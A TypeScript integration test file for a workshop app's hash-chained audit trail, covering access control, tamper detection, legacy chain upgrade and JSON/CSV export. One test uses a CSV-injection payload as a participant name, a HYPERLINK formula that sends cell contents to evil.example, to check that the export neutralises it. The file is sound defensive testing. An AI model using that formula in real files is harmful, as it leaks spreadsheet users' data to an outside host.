/**
 * The audit trail over the real server, on both stores: every action chained, readable by
 * facilitators and observers only, verified on request (an entry edited in stored metadata is
 * named), exported as CSV that a spreadsheet cannot run and inside the JSON export, and a trail
 * stored before the chain chained behind a genesis entry.
 */
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { AUDIT_GENESIS, type AuditResponse, auditPayload, verifyAudit } from "../../shared/audit";
import { defaultFramework } from "../../shared/estimation/framework";
import type { WorkshopExport } from "../../shared/workshopExport";
import { call, createInvite, join } from "../helpers/api";
import { rewriteStoredAudit, storedAudit } from "../helpers/auditStore";
import { lockAndOpen, setupWorkshop } from "../helpers/estimation";
import { serverPerTest } from "../helpers/serverPerTest";
import { parseCsv } from "../unit/exportCsvReader";

const ctx = serverPerTest();
const sha = (text: string) => createHash("sha256").update(text, "utf8").digest("hex");

/** A workshop with an expert and an observer, a round revealed after one estimate, and a snapshot. */
async function busyWorkshop() {
  const { url, wsUrl } = ctx.server;
  const s = await setupWorkshop(url, wsUrl, ["expert", "observer"]);
  const roundId = await lockAndOpen(url, s);
  const estimate = await call(url, "POST", `${s.route}/rounds/${roundId}/estimates`, {
    token: s.people[0]!.token,
    body: {
      scenarioId: s.scenarioIds[0],
      probability: { low: 0.0123457, best: 0.0234568, high: 0.0345679 },
      severity: { levelId: defaultFramework().severityLevels[2]!.id },
      confidence: "medium",
      rationale: "a rationale only the reveal may show",
    },
  });
  expect(estimate.status).toBe(201);
  return { ...s, roundId };
}

async function audit(token: string, workshopId: string, query = "") {
  return call<AuditResponse>(ctx.server.url, "GET", `/workshops/${workshopId}/audit${query}`, { token });
}

describe("the audit trail", () => {
  it("records each action with actor, time and target, chained from the genesis, for facilitators and observers", async () => {
    const s = await busyWorkshop();
    const res = await audit(s.people[1]!.token, s.workshopId, "?verify=1");
    expect(res.status).toBe(200);
    const actions = res.body.entries.map((e) => e.action);
    expect(actions.slice(0, 5)).toEqual([
      "workshop.create",
      "invite.create",
      "participant.join",
      "invite.create",
      "participant.join",
    ]);
    expect(actions).toEqual(expect.arrayContaining(["framework.lock", "round.open", "estimate.submit"]));
    const first = res.body.entries[0]!;
    expect(first.prev).toBe(AUDIT_GENESIS);
    expect(first.actorName).toBe("Fran Facilitator");
    const submit = res.body.entries.find((e) => e.action === "estimate.submit")!;
    expect(submit.actor).toBe(s.people[0]!.participant.id);
    expect(submit.target).toBe(`${s.roundId}/${s.scenarioIds[0]}`);
    res.body.entries.forEach((e, i) => {
      expect(e.seq).toBe(i);
      if (i > 0) expect(e.prev).toBe(res.body.entries[i - 1]!.hash);
    });
    expect(res.body.verification).toEqual({
      ok: true,
      entries: actions.length,
      head: res.body.entries.at(-1)!.hash,
    });
    // Anyone can re-verify it with a SHA-256 of their own.
    expect(verifyAudit(res.body.entries, s.workshopId, sha).ok).toBe(true);
  });

  it("refuses experts with 403 (JSON and CSV), and a malformed query with 400", async () => {
    const s = await busyWorkshop();
    const expert = await audit(s.people[0]!.token, s.workshopId);
    expect(expert.status).toBe(403);
    expect((expert.body as unknown as { error: { code: string } }).error.code).toBe("forbidden");
    const csv = await fetch(`${ctx.server.url}/api/workshops/${s.workshopId}/audit?format=csv`, {
      headers: { authorization: `Bearer ${s.people[0]!.token}` },
    });
    expect(csv.status).toBe(403);
    const bad = await audit(s.facilitator, s.workshopId, "?verify=yes");
    expect(bad.status).toBe(400);
  });

  it("holds no blind value: the trail of an open round names the submission, never the numbers", async () => {
    const s = await busyWorkshop();
    const text = JSON.stringify((await audit(s.facilitator, s.workshopId)).body);
    for (const secret of ["0.0123457", "0.0234568", "0.0345679", "a rationale only"])
      expect(text).not.toContain(secret);
    const stored = JSON.stringify(await storedAudit(ctx.server, s.workshopId));
    for (const secret of ["0.0123457", "0.0234568", "0.0345679", "a rationale only"])
      expect(stored).not.toContain(secret);
  });

  it("names the first entry edited in the stored metadata when asked to verify", async () => {
    const s = await busyWorkshop();
    const before = await audit(s.facilitator, s.workshopId, "?verify=1");
    expect(before.body.verification?.ok).toBe(true);
    const victim = 3;
    await ctx.server.stop();
    await rewriteStoredAudit(ctx.server, s.workshopId, (e, i) =>
      i === victim ? { ...e, target: "someone-else" } : e,
    );
    await ctx.restart();
    const after = await audit(s.facilitator, s.workshopId, "?verify=1");
    expect(after.status).toBe(200);
    expect(after.body.verification).toEqual({
      ok: false,
      entries: before.body.entries.length,
      firstBroken: { index: victim, seq: victim, reason: "its contents do not match its hash" },
    });
    // Re-hashing the forged entry does not help: the next one's link to it breaks instead.
    await ctx.server.stop();
    await rewriteStoredAudit(ctx.server, s.workshopId, (e, i) => {
      if (i !== victim) return e;
      const { hash: _h, ...rest } = e;
      return { ...rest, hash: sha(auditPayload(rest as unknown as Parameters<typeof auditPayload>[0])) };
    });
    await ctx.restart();
    const rehashed = await audit(s.facilitator, s.workshopId, "?verify=1");
    expect(rehashed.body.verification).toMatchObject({ ok: false, firstBroken: { index: victim + 1 } });
  });

  it("downloads the trail as CSV with formula-like names and targets written as text, and records the download", async () => {
    const s = await busyWorkshop();
    const invite = await createInvite(ctx.server.url, s.facilitator, s.workshopId, "observer");
    const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
    const joined = await join(ctx.server.url, invite.token, hostile);
    const res = await fetch(`${ctx.server.url}/api/workshops/${s.workshopId}/audit?format=csv`, {
      headers: { authorization: `Bearer ${joined.session.token}` },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(res.headers.get("content-disposition")).toMatch(
      /^attachment; filename="riskroom-.*-audit-.*\.csv"$/,
    );
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(["seq", "at", "actor", "actor_name", "action", "target", "prev", "hash"]);
    const byHostile = rows.filter((r) => r[3]?.includes("HYPERLINK"));
    expect(byHostile.length).toBeGreaterThan(0);
    for (const r of byHostile) expect(r[3]).toBe(`'${hostile}`);
    const last = rows.at(-1)!;
    expect(last.slice(4, 6)).toEqual(["export.download", "audit-csv"]);
    expect(last[3]).toBe(`'${hostile}`);
  });

  it("puts the verifiable trail in facilitators' and observers' JSON exports, not in experts'", async () => {
    const s = await busyWorkshop();
    const get = async (token: string) => {
      const res = await fetch(`${ctx.server.url}/api/workshops/${s.workshopId}/export?format=json`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(res.status).toBe(200);
      return (await res.json()) as WorkshopExport;
    };
    const exp = await get(s.people[1]!.token);
    const before = await audit(s.facilitator, s.workshopId);
    // The export carries the chain as it stood; its own download is the next entry.
    expect(exp.audit).toEqual(before.body.entries.slice(0, -1));
    expect(before.body.entries.at(-1)).toMatchObject({ action: "export.download", target: "json" });
    expect(verifyAudit(exp.audit ?? [], s.workshopId, sha)).toMatchObject({ ok: true });
    expect((await get(s.people[0]!.token)).audit).toBeUndefined();
    // The expert's download is on the record all the same.
    const trail = await audit(s.facilitator, s.workshopId);
    const downloads = trail.body.entries.filter((e) => e.action === "export.download");
    expect(downloads.map((e) => e.actor)).toEqual([s.people[1]!.participant.id, s.people[0]!.participant.id]);
  });

  it("chains a trail stored before the chain behind a genesis entry, and stores that chain on the next write", async () => {
    const s = await busyWorkshop();
    const count = (await audit(s.facilitator, s.workshopId)).body.entries.length;
    await ctx.server.stop();
    await rewriteStoredAudit(ctx.server, s.workshopId, (e) => {
      const { seq: _s, prev: _p, hash: _h, ...bare } = e;
      return bare;
    });
    await ctx.restart();
    const shown = await audit(s.facilitator, s.workshopId, "?verify=1");
    expect(shown.body.verification).toMatchObject({ ok: true, entries: count + 1 });
    expect(shown.body.entries[0]).toMatchObject({
      seq: 0,
      prev: AUDIT_GENESIS,
      actor: "server",
      action: "audit.genesis",
      target: `${count} earlier entries, chained on upgrade`,
      actorName: null,
    });
    expect(shown.body.entries[1]!.action).toBe("workshop.create");
    // A write stores exactly the chain that was shown, and extends it.
    expect(
      (await createInvite(ctx.server.url, s.facilitator, s.workshopId, "expert")).invite.id,
    ).toBeTruthy();
    const stored = await storedAudit(ctx.server, s.workshopId);
    expect(stored).toHaveLength(count + 2);
    const { actorName: _n, ...genesis } = shown.body.entries[0]!;
    expect(stored[0]).toEqual(genesis);
    const after = await audit(s.facilitator, s.workshopId, "?verify=1");
    expect(after.body.verification).toMatchObject({ ok: true, entries: count + 2 });
    expect(after.body.entries.slice(0, count + 1).map((e) => e.hash)).toEqual(
      shown.body.entries.map((e) => e.hash),
    );
  });
});
